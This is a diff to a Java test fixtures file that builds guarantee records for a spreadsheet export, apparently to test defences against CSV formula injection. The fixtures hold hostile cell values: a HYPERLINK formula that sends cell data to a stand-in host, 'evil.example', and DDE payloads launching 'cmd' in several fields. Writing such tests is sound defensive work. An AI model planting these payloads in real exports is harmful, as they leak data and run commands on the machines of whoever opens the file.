@@ -15,12 +15,14 @@ import io.blueprint.policy.RefundRuleTerms;
 import io.blueprint.policy.Remedy;
 import io.blueprint.reports.policy.PublishedGuarantee;
 import io.blueprint.reports.policy.PublishedGuarantee.TouchpointRef;
+import io.blueprint.reports.policy.wording.PolicyLabels;
 
 import java.math.BigDecimal;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.Arrays;
 import java.util.List;
+import java.util.Locale;
 
 /** Guarantee versions as the read model gives them, like the demo's, and one crafted to attack a spreadsheet. */
 final class Fixtures {
@@ -32,8 +34,8 @@ final class Fixtures {
     static final String FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click\")";
 
     /** Labels that name their key and arguments, so tests see which text went where. */
-    static final ExportLabels KEYS = (key, arguments) ->
-            arguments.length == 0 ? key : key + Arrays.toString(arguments);
+    static final PolicyLabels KEYS = PolicyLabels.of(Locale.ENGLISH, (key, arguments) ->
+            arguments.length == 0 ? key : key + Arrays.toString(arguments));
 
     private Fixtures() {
     }
@@ -81,6 +83,31 @@ final class Fixtures {
                         ConditionUnit.SECONDS),
                 "-2+3", List.of("\t=1+1", "＝1+1"), List.of(), LocalDate.of(2026, 11, 1), LocalDate.of(2026, 12, 31),
                 null, List.of(), "=owner", List.of(), "executive", Instant.parse("2026-11-01T00:00:00Z"));
+    }
+
+    /** The service name of the CSV-injection report: a comma ends a cell, so a formula can start the next. */
+    static final String INJECTED_SERVICE = "X,=cmd|' /C calc'!A0,";
+
+    /**
+     * A guarantee of a service named to break out of a cell, with texts that start with every other formula
+     * sign: + - @, tab, carriage return and the full-width ＝.
+     */
+    static PublishedGuarantee injected() {
+        return new PublishedGuarantee("ZZ-INJECTED", 1, GuaranteeStatus.PUBLISHED, 7L, INJECTED_SERVICE,
+                "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
+                new GuaranteeCondition(GuaranteeMetric.WAIT_TIME, ConditionOperator.AT_MOST, new BigDecimal("60"),
+                        ConditionUnit.SECONDS),
+                "@SUM(1+1)", List.of("\r=1+1", "＝1+1"),
+                List.of(new ClaimChannel(ClaimChannelKind.WEB, "\t=cmd|' /C calc'!A0", null)),
+                LocalDate.of(2026, 11, 1), null, null, List.of(), "=owner",
+                List.of(new RefundRuleTerms(Remedy.VOUCHER, AmountKind.FIXED, new BigDecimal("5000"), null, null, null,
+                        "KRW", Payout.AUTOMATIC, List.of(), null)),
+                "@approver", Instant.parse("2026-11-01T00:00:00Z"));
+    }
+
+    /** The export of the injected guarantee, filtered to its service, so the name is also the filter's. */
+    static GuaranteeExport injectedExport() {
+        return GuaranteeExport.of(new ExportFilter(AS_OF, 7L, INJECTED_SERVICE, null), List.of(injected()));
     }
 
     static GuaranteeExport export(PublishedGuarantee... versions) {
